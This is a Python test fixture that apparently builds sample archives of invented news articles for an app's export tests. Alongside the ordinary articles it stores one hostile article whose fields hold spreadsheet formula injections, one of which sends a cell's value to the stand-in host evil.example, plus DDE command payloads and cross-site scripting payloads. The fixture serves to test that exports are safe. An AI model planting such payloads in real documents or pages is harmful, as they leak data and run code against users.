"""Builds small archives for the export tests: invented articles, one hostile page,
claims, tags and collections (written straight into the tables, read-only API free)."""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import select

from capture.types import (
    AssetResult,
    CitationItem,
    CreditItem,
    Extracted,
    FetchResult,
    ImageRef,
    QuoteItem,
)
from storage.archive import Archive
from storage.models import Article, Claim, Collection, Tag
from tests.support.captures import fetched as fetched_at
from tests.support.fixture_site import png_bytes

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE_AUTHOR = "+cmd|' /C calc'!A0"
HOSTILE_TEXT = ("@SUM(1+1)*cmd|' /C calc'!A0 opened the meeting.\n\n"
                "-2+3 was the <script>alert('x')</script> vote count; "
                "see javascript:alert(1) and <img src=x onerror=alert(2)>.\n\n"
                "\tTabbed line and # not a heading [link](javascript:alert(3)) *bold*")
HOSTILE_HTML = ('<p>@SUM(1+1) opened the meeting.</p><script>alert("x")</script>'
                '<p onclick="alert(1)">-2+3 <a href="javascript:alert(1)">vote</a></p>'
                '<img src="https://cdn.saltmere.example/p.png" onerror="alert(2)" alt="x">'
                '<iframe src="https://evil.example/"></iframe><style>body{}</style>'
                '<svg onload="alert(3)"><circle/></svg>')


EXPORT_TIME = datetime(2026, 3, 2, 9, 30, 15, 123456, tzinfo=UTC)
EXPORT_HEADERS = (("Content-Type", "text/html; charset=utf-8"), ("Content-Encoding", "gzip"),
                  ("Server", "nginx"))


def fetched(url: str, body: bytes, when: datetime | None = None) -> FetchResult:
    """A capture with fixed headers and time, so exports compare byte for byte."""
    return fetched_at(url, body, when=when or EXPORT_TIME, headers=EXPORT_HEADERS)


def harbour_article(n: int = 0) -> tuple[Extracted, str]:
    text = (f"Mayor Jane Roe said “we will rebuild the harbour wall {n}” on Monday. "
            "The council told Reuters the cost was unknown.")
    q = f"we will rebuild the harbour wall {n}"
    s = text.find(q)
    img = f"https://cdn.saltmere.example/wall-{n}.png"
    ex = Extracted(
        title=f"Harbour wall to be rebuilt, part {n}", authors=["Lee Park", "Ana de la Cruz"],
        published="2026-02-01T08:00:00+00:00", publisher="The Saltmere Post", language="en",
        description="The storm-damaged wall will be rebuilt.", text=text,
        reader_html=f'<p>{text}</p><figure><img src="{img}" alt="wall">'
                    "<figcaption>The wall</figcaption></figure>",
        quotes=[QuoteItem(q, "Jane Roe", "Mayor", "said", s, s + len(q))],
        citations=[CitationItem("Reuters", "attribution", None, "told Reuters", [(70, 77)])],
        credits=[CreditItem("Ana Ruiz/Saltmere Post", "Ana Ruiz", "Saltmere Post",
                            "The wall", img)],
        images=[ImageRef(img, "wall", "The wall", role="lead")])
    return ex, img


def store_harbour(archive: Archive, n: int = 0, *, recapture: bool = False) -> int:
    ex, img_url = harbour_article(n)
    img = png_bytes(3 + n % 5, 2, (n % 255, 90, 30))
    asset = AssetResult(img_url, img_url, "image/png", img, hashlib.sha256(img).hexdigest())
    url = f"https://saltmere-post.example/news/harbour-{n}"
    body = (f"<html><head><title>Harbour {n}</title></head><body><article><p>{ex.text}</p>"
            f'<img src="{img_url}"></article></body></html>').encode()
    stored = archive.store_capture(fetched(url, body), ex, [(ex.images[0], asset)])
    if recapture:
        body2 = body.replace(b"</article>", b"<p>Update: work starts in May.</p></article>")
        archive.store_capture(fetched(url, body2, datetime(2026, 3, 5, 12, 0, tzinfo=UTC)), ex,
                              [(ex.images[0], asset)])
    return stored.article_id


def store_hostile(archive: Archive) -> int:
    q = "-2+3"
    s = HOSTILE_TEXT.find(q)
    img_url = "https://cdn.saltmere.example/p.png"
    img = png_bytes(2, 2)
    ex = Extracted(
        title=HOSTILE_TITLE, authors=[HOSTILE_AUTHOR], published="2026-01-05",
        publisher="@Evil Gazette", language="en", text=HOSTILE_TEXT, reader_html=HOSTILE_HTML,
        quotes=[QuoteItem(q, "=2+5+cmd|' /C calc'!A0", None, "said", s, s + len(q))],
        citations=[CitationItem("<script>alert(1)</script>", "link", "javascript:alert(1)",
                                "\r=1+1 injected", [])],
        credits=[CreditItem("\t=cmd photo", None, None, '<img src=x onerror="alert(4)">',
                            img_url)],
        images=[ImageRef(img_url, "x")])
    asset = AssetResult(img_url, img_url, "image/png", img, hashlib.sha256(img).hexdigest())
    body = ("<html><body><script>alert('raw')</script><p>" + HOSTILE_TEXT
            + "</p></body></html>").encode()
    stored = archive.store_capture(fetched("https://evil-gazette.example/story", body), ex,
                                   [(ex.images[0], asset)])
    return stored.article_id


def organize(archive: Archive, article_ids: list[int], *, collection: str = "Harbour files",
             tag: str = "Harbour", claim_note: str = "Council minutes say otherwise.\n“Quoted”",
             verdict: str = "false") -> None:
    """Tags, a collection and a claim (with a verdict) on the given articles."""
    with archive.db.writer() as s:
        t = s.scalar(select(Tag).where(Tag.key == tag.casefold()))
        if t is None:
            t = Tag(name=tag, key=tag.casefold(), color="#cc3300")
            s.add(t)
        coll = s.scalar(select(Collection).where(Collection.name == collection))
        if coll is None:
            coll = Collection(name=collection, description="Everything on the harbour wall",
                              created_at=datetime(2026, 3, 1, tzinfo=UTC))
            s.add(coll)
        for aid in article_ids:
            art = s.get(Article, aid)
            assert art is not None
            art.tags.append(t)
            coll.articles.append(art)
            words = art.text.split()
            claim_text = " ".join(words[:4])
            claim = Claim(article_id=aid, capture_id=art.latest_capture_id, text=claim_text,
                          start=0, end=len(claim_text), note=claim_note, verdict=verdict,
                          evidence=["https://council.saltmere.example/minutes/2026-02"],
                          created_at=datetime(2026, 3, 3, tzinfo=UTC) + timedelta(minutes=aid),
                          updated_at=datetime(2026, 3, 4, tzinfo=UTC))
            claim.tags.append(t)
            s.add(claim)
            coll.claims.append(claim)


def build_archive(path: Path, n: int = 3) -> tuple[Archive, list[int], int]:
    """An archive with ``n`` harbour articles (the first recaptured), organised, and a
    hostile article (also in the collection)."""
    archive = Archive.open(str(path))
    ids = [store_harbour(archive, i, recapture=(i == 0)) for i in range(n)]
    hostile = store_hostile(archive)
    organize(archive, [*ids, hostile])
    return archive, ids, hostile


def db_dump_hash(archive: Archive) -> str:
    """A hash of every row of the database (to assert nothing changed)."""
    raw = archive.db.engine.raw_connection()
    try:
        dump = "\n".join(raw.driver_connection.iterdump())
    finally:
        raw.close()
    return hashlib.sha256(dump.encode()).hexdigest()
